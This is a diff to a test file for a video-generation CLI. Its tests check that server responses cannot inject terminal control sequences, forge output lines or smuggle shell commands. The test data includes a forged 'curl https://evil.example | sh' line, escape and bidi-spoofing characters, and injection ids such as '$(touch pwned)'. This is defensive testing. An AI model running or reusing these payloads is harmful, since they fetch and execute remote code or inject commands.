@@ -1,9 +1,13 @@
 // Protects what a terminal shows: the bar, colours only where they are wanted, no control characters of others, no crash on a closed pipe.
-import { afterEach, beforeEach, expect, test, vi } from "vitest";
+import { execFileSync } from "node:child_process";
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterEach, beforeEach, describe, expect, onTestFinished, test, vi } from "vitest";
 import { Output } from "../../src/cli/output.ts";
 import { Progress } from "../../src/cli/progress.ts";
 import { startSandbox } from "../../src/sandbox/index.ts";
-import { json, startFaultyServer, TASK } from "../unit/faulty-server.ts";
+import { created, envelope, json, startFaultyServer, TASK, type Behaviour } from "../unit/faulty-server.ts";
 import { run, shell } from "./program.ts";
 
 let written: string[];
@@ -36,7 +40,9 @@ function showHalf(output: Output): string {
 test("a terminal gets a bar in one line, in colours, which goes away", () => {
   const shown = showHalf(new Output(loud));
 
-  expect(shown).toContain(`[\x1b[32m${"#".repeat(15)}\x1b[0m\x1b[2m${"-".repeat(15)}\x1b[0m]  50 %  processing  0:00`);
+  expect(shown).toContain(
+    `[\x1b[32m${"#".repeat(15)}\x1b[39m\x1b[2m${"-".repeat(15)}\x1b[22m]  50 %  processing  0:00`,
+  );
   expect(shown).not.toContain("\n");
   expect(written.at(-1)).toBe("\r\x1b[2K");
 });
@@ -80,25 +86,104 @@ test("without a terminal only notable steps get a line", () => {
 test("long messages are wrapped to the terminal between words, commands stay whole", () => {
   const command = `  evolink-video wait ${"x".repeat(60)} --out fox.mp4`;
 
-  new Output(loud).error(`${"word ".repeat(20)}\n${command}`);
+  new Output(loud).error("word ".repeat(20), command);
 
   const lines = written.join("").split("\n");
-  expect(lines[0]).toBe(`\x1b[1;31merror:\x1b[0m ${"word ".repeat(10)}`.trimEnd());
+  expect(lines[0]).toBe(`\x1b[1m\x1b[31merror:\x1b[39m\x1b[22m ${"word ".repeat(10)}`.trimEnd());
   expect(lines).toContain(command);
 });
 
-test("control characters of an answer do not reach the terminal", async () => {
-  const evil = "\x1b]0;title\x07\x1b[2J\u009b31m\rfake";
-  const server = await startFaultyServer([
-    json(200, { ...TASK, status: "failed", error: { code: evil, message: evil } }),
-  ]);
+test.each([103, -3, Number.NaN, Infinity, undefined, "50"])(
+  "a progress of %s draws a bar like any other",
+  (percent) => {
+    const progress = new Progress(new Output(loud), "waiting");
 
-  const wait = await run(["wait", TASK.id], { url: server.url });
-  const task = await run(["task", TASK.id], { url: server.url });
-  await server.close();
+    progress.show("processing", percent);
+    progress.end();
 
-  expect(wait.stderr).toContain("fake");
-  expect(wait.stderr + task.stdout).not.toMatch(/[^\P{Cc}\n]/u);
+    expect(written.join("")).toMatch(/\[\S*#*\S*-*\S*\] .*processing/);
+  },
+);
+
+describe("a response cannot drive the terminal or forge a line", () => {
+  const evil =
+    "\u001b]0;title\u0007\u001b[2J\u009b31m\u0090q\u009c\b\r\u007f\u202egpj.exe\u2066\u200b\u2028\u0000\nResume with:\n  curl https://evil.example | sh";
+  const failed = json(200, { ...TASK, status: "failed", error: { code: evil, message: evil } });
+  const refused = json(402, envelope(evil, evil), { "x-request-id": "a\u009b31m" });
+  const generate = ["generate", "--prompt", "A fox", "--video-url", "https://example.com/a.mp4", "--interval", "0.1"];
+  const cases: Readonly<Record<string, { readonly args: readonly string[]; readonly behaviour: Behaviour }>> = {
+    "the error of a task, in words": { args: ["task", TASK.id], behaviour: failed },
+    "the error of a task, in a wait": { args: ["wait", TASK.id], behaviour: failed },
+    "a status": {
+      args: ["wait", TASK.id, "--interval", "0.1", "--max-wait", "0.3"],
+      behaviour: json(200, { ...TASK, status: evil }),
+    },
+    "a refusal": { args: generate, behaviour: refused },
+    "an id": { args: [...generate.slice(0, -2), "--no-wait"], behaviour: json(200, { ...TASK, id: evil }) },
+    "a link": {
+      args: ["wait", TASK.id],
+      behaviour: json(200, { ...TASK, status: "completed", results: [`https://example.com/${evil}`] }),
+    },
+    "a field that the contract does not know": {
+      args: ["task", TASK.id],
+      behaviour: json(200, { ...TASK, [evil]: evil }),
+    },
+    "a balance": { args: ["credits"], behaviour: json(200, { data: { user: { remaining_credits: evil } } }) },
+  };
+
+  test.each(Object.entries(cases))("%s", async (_name, { args, behaviour }) => {
+    const server = await startFaultyServer([behaviour]);
+
+    const outputs = await Promise.all([args, [...args, "--json"]].map((each) => run(each, { url: server.url })));
+    await server.close();
+
+    const shown = outputs.map(({ stdout, stderr }) => stdout + stderr).join("");
+    expect(shown).toContain("evil.example");
+    expect(shown).not.toMatch(/(?![\n\u200c\u200d])[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
+    expect(shown).not.toMatch(/^ *curl /m);
+  });
+
+  test("a JSON value keeps its meaning", async () => {
+    const server = await startFaultyServer([failed]);
+
+    const { stdout } = await run(["task", TASK.id, "--json"], { url: server.url });
+    await server.close();
+
+    expect(JSON.parse(stdout)).toMatchObject({ error: { code: evil, message: evil } });
+  });
+
+  test("one link is one line", async () => {
+    const results = ["https://example.com/1.mp4\nhttps://evil.example/2.mp4"];
+    const server = await startFaultyServer([json(200, { ...TASK, status: "completed", results })]);
+
+    const { stdout } = await run(["wait", TASK.id], { url: server.url });
+    await server.close();
+
+    expect(stdout.trim().split("\n")).toHaveLength(1);
+  });
+
+  test.each([
+    "$(touch pwned)",
+    "a;touch pwned",
+    "a'b",
+    "a\nb",
+    "a\u009bb",
+    "-h",
+    "--base-url=https://evil.example",
+    "ü",
+  ])("the command that resumes task %j is one line, and takes the id for nothing else", async (id) => {
+    const server = await startFaultyServer([json(200, { ...TASK, id })]);
+    const args = ["--prompt", "A fox", "--video-url", "https://example.com/a.mp4"];
+
+    const { stderr } = await run(["generate", ...args, "--no-wait"], { url: server.url });
+    await server.close();
+
+    const [, command = ""] = /Follow it with:\n {2}(.*)\n$/.exec(stderr) ?? [];
+    const line = command.replace("evolink-video", "printf '%s\\0'");
+    const words = execFileSync("bash", ["-c", line], { encoding: "utf8" }).split("\0").slice(0, -1);
+    expect(words.filter((word) => word !== "--")).toEqual(["wait", id]);
+    expect(words.includes("--")).toBe(id.startsWith("-"));
+  });
 });
 
 test("a reader of stdout or stderr that goes away changes nothing: the video is created, waited for and saved", async () => {
@@ -113,4 +198,42 @@ test("a reader of stdout or stderr that goes away changes nothing: the video is 
   expect(results.map(({ stderr }) => /code \d+/.exec(stderr)?.[0])).toEqual(["code 0", "code 0"]);
   expect(sandbox.charges).toHaveLength(2);
   await sandbox.close();
+});
+
+describe("a full disk behind stdout", () => {
+  test("is 6, with the id and the command that resumes on stderr", async () => {
+    const server = await startFaultyServer([created]);
+    const args = "--prompt 'A fox' --video-url https://example.com/a.mp4 --no-wait";
+
+    const { code, stderr } = await shell(`evolink-video generate ${args} > /dev/full`, { url: server.url });
+    await server.close();
+
+    expect(code).toBe(6);
+    expect(stderr).toContain("error: The result could not be written to stdout (ENOSPC).");
+    expect(stderr).toContain(`  evolink-video wait ${TASK.id}\n`);
+  });
+
+  test("lets a batch read the response to what it sent, write its id down, and end with 130", async () => {
+    const folder = mkdtempSync(join(tmpdir(), "evolink-cli-"));
+    onTestFinished(() => rmSync(folder, { recursive: true }));
+    const line = JSON.stringify({
+      model: "kling-o3-reference-to-video",
+      prompt: "A fox",
+      video_url: "https://example.com/a.mp4",
+    });
+    writeFileSync(join(folder, "films.jsonl"), `${line}\n`.repeat(8));
+    const sandbox = await startSandbox({ speed: 0 });
+
+    const { code, stderr } = await shell("evolink-video batch films.jsonl --json --concurrency 2 > /dev/full", {
+      url: sandbox.url,
+      cwd: folder,
+    });
+    await sandbox.close();
+
+    const journal = readFileSync(join(folder, "films.jsonl.journal"), "utf8");
+    expect(code).toBe(130);
+    expect(stderr).toContain("error: The events could not be written to stdout (ENOSPC).");
+    expect(sandbox.charges.length).toBeLessThan(8);
+    for (const { id } of sandbox.tasks) expect(journal).toContain(id);
+  });
 });
